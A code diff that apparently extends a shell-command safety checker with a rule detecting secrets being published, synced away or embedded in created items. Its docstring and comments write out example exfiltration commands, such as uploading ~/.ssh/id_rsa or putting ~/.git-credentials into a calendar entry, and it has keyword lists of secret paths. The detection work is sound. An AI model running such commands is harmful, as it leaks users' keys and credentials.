@@ -12,18 +12,27 @@ URL or a name).  The class is read from the command's effect: one simple command
 - and names a destination on another machine: a URL with a network scheme, ``user@host:path``, ``host:port``, an
   IP address, an e-mail address or a dotted host name (a file's extension is not a domain).
 
+Without any machine's name, three more shapes publish a secret (``rule_secret_published``): a secret operand
+given to a verb that publishes or seeds it (``webtorrent seed WALLET``, ``qshell fput BUCKET k ~/.ssh/id_rsa``), or
+that syncs/transfers it to another side's ``endpoint:path`` (``irsync -r ~/.password-store i:/zone/public``); a
+secret read in a substitution into a content field or item a client creates (``gcalcli add --description "$(cat
+~/.git-credentials)"``); and a ``key=value`` input naming a secret file with a network output on the same line
+(``fluent-bit -i tail -p path=~/.zsh_history -o http -p host=IP``).  A secret store (``gh secret set``, ``vault kv
+put``) is where secrets belong: its words keep the line quiet.
+
 Senders ``exfil`` names keep their own reading (``ssh host cat ~/.ssh/id_rsa`` fetches a key, it sends none);
 for them only substitutions and code count.  Loopback destinations stay quiet, as do public keys.
 """
 from __future__ import annotations
 
 import re
+from functools import lru_cache
 from typing import Optional
 
 from aish.safety.lazy_regex import LazyRegex
 from aish.safety.rules.code_reach import KEY_FILE_IN_CODE
 from aish.safety.rules.code_secret_paths import secret_in_code
-from aish.safety.rules.common import Ctx, fragment
+from aish.safety.rules.common import MEDIUM, Ctx, fragment
 from aish.safety.rules.exfil import (_SENDERS, _in_substitutions, _segment_reads_secret, _worse, payload_words,
                                      secret_path, sent)
 from aish.safety.rules.unknown_senders import _DNS_NAME, _level, _secret, _what
@@ -219,3 +228,108 @@ def rule_secret_file_sent(segs: list) -> Optional[tuple]:
                 return _level(got), f"copies {_what(got)} into a directory mounted from another machine " \
                                     f"({fragment([w.raw for w in later.words])})"
     return None
+
+
+# Verbs that hand a file to others (a bucket, a swarm, a drop), by subcommand or by the program's name's end.
+_PUBLISH_VERBS = frozenset({"seed", "share", "publish", "upload", "put", "fput", "mput", "send", "post"})
+# Verbs that copy to another side, given as `endpoint:path` without any host name (`i:/zone`, `$EP:/drop`).
+_SYNC_VERBS = frozenset({"sync", "transfer", "copy", "cp", "mirror", "rsync", "replicate"})
+# Verbs of clients that create an item (an event, an issue, a post, a note) whose fields others read.
+_CREATE_VERBS = frozenset({"add", "create", "new", "post", "note", "comment", "message", "msg", "reply", "send",
+                           "push", "publish", "toot", "tweet", "say", "write", "submit", "open", "update"})
+_CONTENT_OPTIONS = frozenset({"--description", "--desc", "-d", "--body", "-b", "--message", "-m", "--text", "-t",
+                              "--note", "--notes", "--comment", "--content", "--summary", "--title", "--details"})
+# A secret store is where a secret belongs: `gh secret set --body "$(cat KEY)"`, `vault kv put`, `pass insert`.
+_STORE_WORDS = frozenset({"secret", "secrets", "vault", "kv", "keyring", "keychain", "keystore", "item", "items",
+                          "pass", "password", "passwords", "credential", "credentials", "login", "env", "variable",
+                          "var", "variables", "ssh-key", "ssh-keys", "key", "keys", "gpg-key", "deploy-key"})
+# `key=value` inputs: a file a shipper or pipeline reads (`path=…`, `input.file.paths=[…]`, `include=[…]`).
+_INPUT_KEYS = frozenset({"path", "paths", "file", "files", "filename", "include", "source", "src", "input", "from",
+                         "log", "logs", "read"})
+# Another side's `endpoint:path` (`i:/zone/…`, `$SRC_EP:/~/.ssh/`, `remote:public`); not a drive (`C:\\`, `C:/`).
+_REMOTE_SIDE = re.compile(r"^(?:[\w.{}$-]{2,}|\$\w+|[a-z](?=:/)):(?!\d+$)")
+# What can name a secret, as plain substrings of the lowered line (one `in` each, cheaper than a regex's scan).
+_SECRET_ARGS = (".ssh", ".aws", "cred", "netrc", "pgpass", "kube", "id_", "npmrc", "pypirc", "docker", "gnupg",
+                "token", "secret", "key", "shadow", "wallet", "cookie", "passw", ".env", "histor", ".pem", ".p12",
+                ".pfx", "kdbx", "vault", "electrum", "bitcoin", "$(", "`")
+
+
+_ANY_VERB = _PUBLISH_VERBS | _SYNC_VERBS | _CREATE_VERBS
+
+
+def may_publish(c: Ctx) -> bool:
+    """Cheap: a publishing, syncing or creating verb (or a `key=value` word), then arguments that can name a
+    secret."""
+    low = c.lowered
+    if not c.args or "=" not in low and not _verbs(c) & _ANY_VERB:
+        return False
+    return any(part in low for part in _SECRET_ARGS)
+
+
+@lru_cache(maxsize=512)
+def _name_verbs(name: str) -> frozenset:
+    """A program's name's parts and the verbs it ends with (`btfs-seed`, `irsync`, `megaput`)."""
+    return frozenset(set(re.split(r"[-_.:]", name)) | {v for v in _PUBLISH_VERBS | _SYNC_VERBS if name.endswith(v)})
+
+
+def _verbs(c: Ctx) -> set:
+    """The program's name's parts and its first words that are no option (`btfs-seed`, `qshell fput`)."""
+    found = set(_name_verbs(c.prog.lower().rsplit("/", 1)[-1]))
+    for t in c.texts[:3]:  # `trello add-card`, `tool files:upload`
+        if not t.startswith("-"):
+            t = t.lower()
+            found.add(t)
+            if "-" in t or "_" in t or ":" in t:
+                found.update(re.split(r"[-_:]", t))
+    return found
+
+
+def _secret_operand(text: str) -> str:
+    """The secret class an operand names, an `endpoint:path`'s path too (`$SRC_EP:/~/.ssh/`)."""
+    if text.startswith("-") or "://" in text:
+        return ""
+    value = _REMOTE_SIDE.sub("", text) if _REMOTE_SIDE.match(text) else text
+    value = value[1:] if value.startswith("/~/") else value
+    return _secret(Word(value, value, has_var="$" in value))
+
+
+def _input_secret(c: Ctx) -> str:
+    """A secret file named by a `key=value` input (`-p path=~/.zsh_history`, `--set input.file.paths=[KEY]`)."""
+    found = ""
+    for t in c.texts[:32]:
+        key, sep, value = t.partition("=")
+        if sep and "=" in value and key.startswith("-"):  # `--set=receivers.filelog.include=[…]`
+            key, sep, value = value.partition("=")
+        if not sep or re.split(r"[._]", key.lstrip("-").lower())[-1] not in _INPUT_KEYS:
+            continue
+        for part in re.split(r"[,\s]+", value.strip("[]\"' ")):
+            part = part.strip("[]\"'")
+            found = _worse(found, _secret(Word(part, part, has_var="$" in part)) if part else "")
+    return found
+
+
+def rule_secret_published(c: Ctx) -> Optional[tuple]:
+    """A secret published, synced away or put into a created item's field, with no machine's name needed:
+    see the module's docstring."""
+    verbs = _verbs(c)
+    if verbs & _STORE_WORDS:
+        return None
+    texts = c.texts[:32]
+    found = ""
+    if verbs & _PUBLISH_VERBS or verbs & _SYNC_VERBS and any(_REMOTE_SIDE.match(t) and not t.startswith("-") and
+                                                             not _secret_operand(t) for t in texts):
+        for k, t in enumerate(texts):
+            if k and texts[k - 1] in ("-i", "--identity", "--key", "--cert", "-k", "--key-file"):
+                continue  # a login's key, not the data
+            found = _worse(found, _secret_operand(t))
+    if found != "high" and verbs & _CREATE_VERBS:
+        content = [w for k, w in enumerate(c.args[:32]) if w.subs and (
+            not w.text.startswith("-") or k and c.args[k - 1].text in _CONTENT_OPTIONS or
+            w.text.split("=", 1)[0] in _CONTENT_OPTIONS)]
+        found = _worse(found, _in_substitutions(content))
+    if found != "high" and "=" in c.lowered and any(_names_host(w) for w in c.args[:32]):
+        found = _worse(found, _input_secret(c))
+    if not found:
+        return None
+    level, _ = sent(found, c, c.prog) or (MEDIUM, "")
+    return level, f"{c.prog} publishes {_what(found)} where others can read it ({fragment([w.raw for w in c.words])})"
